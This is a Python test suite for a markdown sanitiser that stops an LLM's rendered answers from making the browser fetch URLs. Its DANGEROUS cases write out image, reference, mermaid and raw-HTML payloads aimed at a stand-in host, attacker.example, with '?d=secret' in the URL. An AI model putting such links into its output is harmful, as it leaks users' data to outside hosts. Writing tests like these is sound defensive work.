"""safe_markdown: nothing in a model's answer makes the browser fetch a URL.

The oracle parses the output with a CommonMark parser (markdown-it-py) the way Streamlit's
renderer would see it — including Streamlit's own ``:material/`` → ``:material_``
rewrite and its ``language-(\\w+)`` test for mermaid fences — and lists what would fetch.
"""

from __future__ import annotations

import re
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.common.utils import unescapeAll

from llmops.markdown import safe_markdown

_MD = MarkdownIt("commonmark").enable("table").enable("strikethrough")
_ICON = re.compile(r":material_(\w+):", re.ASCII)  # Streamlit's icon plugin
_LANG = re.compile(r"(\w+)", re.ASCII)  # /language-(\w+)/ on the code's class
EVIL = "http://attacker.example/x.png?d=secret"


def _walk(tokens: list[Any]) -> Any:
    for tok in tokens:
        yield tok
        if tok.children:
            yield from _walk(tok.children)


def fetches(markdown: str) -> list[str]:
    """What Streamlit's markdown would fetch or draw from this text (empty: safe)."""
    found = []
    for tok in _walk(_MD.parse(markdown.replace(":material/", ":material_"))):
        if tok.type == "image":
            found.append(f"image {tok.attrs.get('src')}")
        elif tok.type == "fence":
            info = unescapeAll(tok.info).strip()
            lang = _LANG.match(info.split(" ")[0] if info else "")
            if lang and lang.group(1).lower() == "mermaid":
                found.append("mermaid diagram")
        elif tok.type == "text" and _ICON.search(tok.content):
            found.append(f"icon {tok.content}")
    return found


def html_tags(markdown: str) -> list[str]:
    return [t.content for t in _walk(_MD.parse(markdown)) if t.type.startswith("html_")]


DANGEROUS = {
    "inline image": f"Here: ![chart]({EVIL}) done",
    "image without alt": f"![]({EVIL})",
    "image with title": f'![a]({EVIL} "t")',
    "pointy destination": f"![a](<{EVIL}>)",
    "reference image": f"See ![a][r].\n\n[r]: {EVIL}",
    "collapsed reference": f"See ![r][].\n\n[r]: {EVIL}",
    "shortcut reference": f"See ![r].\n\n[r]: {EVIL}",
    "definition first": f"[r]: {EVIL}\n\nSee ![r]",
    "image inside a link": f"[![a]({EVIL})](http://example.com)",
    "nested images": f"![a ![b]({EVIL})]({EVIL})",
    "bang run": f"Wow!!![a]({EVIL})",
    "escaped backslash": f"\\\\![a]({EVIL})",
    "three backslashes": f"\\\\\\![a]({EVIL}) and \\\\\\\\![b]({EVIL})",
    "after a code span": f"`x\\`![a]({EVIL})",
    "in a list": f"- item\n  ![a]({EVIL})",
    "in a blockquote": f"> quote ![a]({EVIL})",
    "in a table": f"| a | b |\n|---|---|\n| ![a]({EVIL}) | x |",
    "in emphasis": f"**![a]({EVIL})**",
    "entity backslash": f"&#92;![a]({EVIL})",
    "windows newlines": f"See ![r].\r\n\r\n[r]: {EVIL}",
    "angle before bang": f"Text <![a]({EVIL})",
    "mermaid": f'```mermaid\nflowchart TD\n  A@{{ img: "{EVIL}" }}\n```',
    "mermaid, capitals and tildes": f'~~~ Mermaid\nA@{{ img: "{EVIL}" }}\n~~~',
    "mermaid, entity": f'```&#109;ermaid\nA@{{ img: "{EVIL}" }}\n```',
    "mermaid, suffix": f'```mermaid-js {{x}}\nA@{{ img: "{EVIL}" }}\n```',
    "mermaid in a list": f'1. step\n\n   ```mermaid\n   A@{{ img: "{EVIL}" }}\n   ```',
    "material icon": "Done :material/check_circle: now",
    "material underscore": "Done :material_check: now",
    "material escaped": "Done \\:material\\_check\\: and \\:material/home:",
    "material entities": "Done &#58;material&#95;check&#58; and &#x3a;m&#97;terial&lowbar;x:",
}


@pytest.mark.parametrize("text", DANGEROUS.values(), ids=DANGEROUS.keys())
def test_the_oracle_sees_each_channel_in_the_raw_text(text: str) -> None:
    assert fetches(text), "the test case must be dangerous to begin with"


@pytest.mark.parametrize("text", DANGEROUS.values(), ids=DANGEROUS.keys())
def test_every_channel_is_neutralised(text: str) -> None:
    assert fetches(safe_markdown(text)) == []


@pytest.mark.parametrize("text", DANGEROUS.values(), ids=DANGEROUS.keys())
def test_every_prefix_of_a_streamed_answer_is_safe(text: str) -> None:
    """A stream is shown by sanitising the accumulated text after each chunk: every
    prefix must be safe ("!" at the end of one chunk, "[" at the start of the next)."""
    answer = f"Sure! Here is the answer [1].\n\n{text}\n\nMore text![2] **done**."
    for end in range(len(answer) + 1):
        assert fetches(safe_markdown(answer[:end])) == [], answer[:end]


def test_chunks_split_between_bang_and_bracket() -> None:
    chunks = ["Look at this!", "[", "x](", EVIL, ")", " and ![y", "][r]\n\n[r]: ", EVIL]
    shown = ""
    for chunk in chunks:
        shown += chunk
        assert fetches(safe_markdown(shown)) == []
    assert safe_markdown(shown).startswith(f"Look at this[image: x]({EVIL})")


def test_an_image_reads_as_a_visible_link() -> None:
    assert safe_markdown(f"A ![chart]({EVIL}) B") == f"A [image: chart]({EVIL}) B"
    assert safe_markdown(f"A ![]({EVIL}) B") == f"A [image]({EVIL}) B"
    assert safe_markdown("See ![a][r]") == "See [image: a][r]"
    tokens = list(_walk(_MD.parse(safe_markdown(f"A ![chart]({EVIL})"))))
    links = [t.attrs["href"] for t in tokens if t.type == "link_open"]
    assert links == [EVIL]


def test_a_bang_before_a_citation_keeps_its_text() -> None:
    out = safe_markdown("Deploy safely![1] Then measure![2]")
    assert out == "Deploy safely\\![1] Then measure\\![2]"
    rendered = _MD.renderInline(out)
    assert rendered == "Deploy safely![1] Then measure![2]"


@pytest.mark.parametrize(
    "text",
    [
        '<img src="http://a/x.png">',
        "<iframe src=http://a/></iframe>",
        "<style>@import url(http://a/s.css);</style>",
        '<link rel="stylesheet" href="http://a/s.css">',
        "<svg><image href='http://a/x.png'/></svg>",
        "Text <IMG\nsrc=http://a/x.png>",
        "<!-- c --> <?php x ?> <!DOCTYPE html>",
        "</div>",
    ],
)
def test_raw_html_is_shown_as_text(text: str) -> None:
    assert html_tags(text), "the test case must be HTML to begin with"
    out = safe_markdown(text)
    assert html_tags(out) == []
    assert _MD.renderInline(out.replace("\n", " ")) == _MD.renderInline(
        text.replace("\n", " ")
    ).replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


ORDINARY = """\
# Canary releases

**Canary releases** send a *small* share of traffic to a new release [1][2].

1. Label the release `canary` with a weight: `llmops release label canary rel_x --weight 0.1`
2. Watch the [Overview](https://example.com/docs#overview) and <https://example.com>.
   - p95 latency < 2 s, and a<b is not a tag; 3 > 2
   - ~~old~~ new, :+1:, 🚀

| metric | value |
|---|---|
| cost | $0.02 |

```python
html = "<div>" + alt  # <b>
print(html)
```

> Quote with `<b>inline code</b>` and a footnote-ish [^1].

Email <ops@example.com>. Done!
"""


def test_ordinary_markdown_reads_the_same() -> None:
    out = safe_markdown(ORDINARY)
    assert _MD.render(out) == _MD.render(ORDINARY)
    # the one change: a "<" that could open a tag is escaped (it renders the same)
    assert out == ORDINARY.replace("a<b is", "a\\<b is")
    assert safe_markdown("") == ""


def test_code_keeps_its_html() -> None:
    text = "Use `<img src=x>` or\n\n```html\n<img src=x>\n```\nthen <b>bold</b>"
    assert (
        safe_markdown(text)
        == "Use `<img src=x>` or\n\n```html\n<img src=x>\n```\nthen \\<b>bold\\</b>"
    )


def test_image_syntax_inside_code_is_rewritten_too() -> None:
    """The price of not guessing where code ends: an image shown as code is altered."""
    assert safe_markdown("`![a](u)`") == "`[image: a](u)`"
    assert safe_markdown("```\n![a][r]!\n```") == "```\n[image: a][r]!\n```"


_ALPHABET = st.sampled_from(
    [*"![]()<>`~:\\&#;_/ \nabmx1", "material", "mermaid", "&#109;", "&#95;", "```", EVIL]
)


@settings(max_examples=400, deadline=None)
@given(st.lists(_ALPHABET, max_size=40).map("".join))
def test_no_input_gets_through_and_the_output_is_stable(text: str) -> None:
    out = safe_markdown(text)
    assert fetches(out) == []
    assert safe_markdown(out) == out
